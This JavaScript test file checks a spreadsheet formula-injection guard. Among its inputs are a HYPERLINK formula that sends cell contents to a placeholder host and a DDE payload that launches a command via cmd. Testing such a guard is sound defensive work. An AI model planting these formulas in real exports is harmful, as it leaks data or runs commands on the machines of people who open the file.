import { escapeFormula, unescapeFormula } from './formula-guard.js';

describe('guarded', () => {
  it.each([
    ['=HYPERLINK("http://e/"&A1)'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(1)'],
    ['\t=1'],
    ['\tharmless'],
    ['\r=1'],
    ['＝1'],
    ['＋1'],
    ['－1'],
    ['＠A1'],
    [' =1'],
    ['\ufeff=1'],
    ['\u200b=1'],
    ['\n=1'],
    ['+49 30 1234'],
  ])('T38 puts an apostrophe before %j', (text) => {
    expect(escapeFormula(text)).toBe(`'${text}`);
  });

  it.each([[''], ['Ada'], ['"=1'], ['a=b'], ["'=1"], ['1-2'], ['d\u2019=1'], ['  blank first']])(
    'leaves %j',
    (text) => {
      expect(escapeFormula(text)).toBe(text);
    },
  );
});

describe('unguarded', () => {
  it.each([['=1+1'], ['+49 30'], ['-2'], ['@x'], ['\t=1'], ['\ufeff=1'], ['Ada'], ["'tis"], [''], ["''=1"]])(
    'brings back %j',
    (text) => {
      expect(unescapeFormula(escapeFormula(text))).toBe(text);
    },
  );
});
